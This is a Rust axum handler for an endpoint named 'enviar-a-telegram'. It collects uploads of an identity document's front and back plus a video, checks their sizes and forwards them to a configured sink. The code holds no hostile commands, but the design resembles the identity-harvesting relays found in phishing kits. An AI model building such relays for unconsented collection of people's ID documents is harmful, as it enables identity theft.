//! Upload relay endpoint
//!
//! `POST /api/enviar-a-telegram` with multipart parts `idFront`, `idBack`,
//! `video`. Validation happens before any upstream call: a request missing a
//! part is rejected without forwarding anything.

use axum::extract::multipart::{Field, MultipartError, MultipartRejection};
use axum::extract::{DefaultBodyLimit, Multipart, State};
use axum::http::StatusCode;
use axum::routing::post;
use axum::{Json, Router};
use idv_common::api::{Artifact, ArtifactRole, BundleBuilder, UploadAck, UPLOAD_PATH};
use tracing::{debug, info};
use uuid::Uuid;

use crate::error::{ApiError, ApiResult};
use crate::services::forward_bundle;
use crate::AppState;

/// POST /api/enviar-a-telegram
pub async fn relay_upload(
    State(state): State<AppState>,
    multipart: Result<Multipart, MultipartRejection>,
) -> ApiResult<Json<UploadAck>> {
    let mut multipart = multipart.map_err(|e| ApiError::BadRequest(e.body_text()))?;

    info!("Receiving verification upload");
    let builder = read_parts(&mut multipart, state.max_file_bytes).await?;
    let bundle = builder.build()?;

    info!(
        front = bundle.get(ArtifactRole::IdFront).len(),
        back = bundle.get(ArtifactRole::IdBack).len(),
        video = bundle.get(ArtifactRole::Video).len(),
        "Received sizes"
    );

    let sink = state.sink.as_ref().ok_or(ApiError::NotConfigured)?;

    let reference = short_reference();
    forward_bundle(sink.as_ref(), &bundle, &reference).await?;

    Ok(Json(UploadAck::sent()))
}

/// Build upload routes with a body limit covering three maximum-size files
pub fn upload_routes(body_limit_bytes: usize) -> Router<AppState> {
    Router::new()
        .route(UPLOAD_PATH, post(relay_upload))
        .layer(DefaultBodyLimit::max(body_limit_bytes))
}

/// Collect known file parts; unknown parts and plain text fields are
/// skipped, repeats keep the first
async fn read_parts(
    multipart: &mut Multipart,
    max_file_bytes: usize,
) -> ApiResult<BundleBuilder> {
    let mut builder = BundleBuilder::new();

    while let Some(field) = multipart.next_field().await.map_err(multipart_error)? {
        let Some(role) = field.name().and_then(ArtifactRole::from_part_name) else {
            debug!(part = ?field.name(), "Ignoring unexpected part");
            continue;
        };

        // Only file parts supply an artifact
        if field.file_name().is_none() {
            debug!(part = %role, "Ignoring non-file field");
            continue;
        }

        if builder.contains(role) {
            debug!(part = %role, "Ignoring repeated part");
            continue;
        }

        let artifact = read_artifact(role, field, max_file_bytes).await?;
        builder.insert(role, artifact);
    }

    Ok(builder)
}

async fn read_artifact(
    role: ArtifactRole,
    mut field: Field<'_>,
    max_file_bytes: usize,
) -> ApiResult<Artifact> {
    // Photos are always renamed; the video keeps its container extension.
    let file_name = match field.file_name() {
        Some(name) if !role.is_photo() && !name.trim().is_empty() => name.to_string(),
        _ => role.default_file_name().to_string(),
    };
    let content_type = field
        .content_type()
        .map(str::to_string)
        .unwrap_or_else(|| role.default_content_type().to_string());

    let mut bytes = Vec::new();
    while let Some(chunk) = field.chunk().await.map_err(multipart_error)? {
        if bytes.len() + chunk.len() > max_file_bytes {
            return Err(ApiError::PayloadTooLarge {
                part: role.part_name().to_string(),
                limit: max_file_bytes,
            });
        }
        bytes.extend_from_slice(&chunk);
    }

    Ok(Artifact::new(file_name, content_type, bytes))
}

fn multipart_error(err: MultipartError) -> ApiError {
    if err.status() == StatusCode::PAYLOAD_TOO_LARGE {
        ApiError::RequestTooLarge
    } else {
        ApiError::BadRequest(err.body_text())
    }
}

/// First 8 hex characters of a random UUID
fn short_reference() -> String {
    let mut reference = Uuid::new_v4().simple().to_string();
    reference.truncate(8);
    reference
}
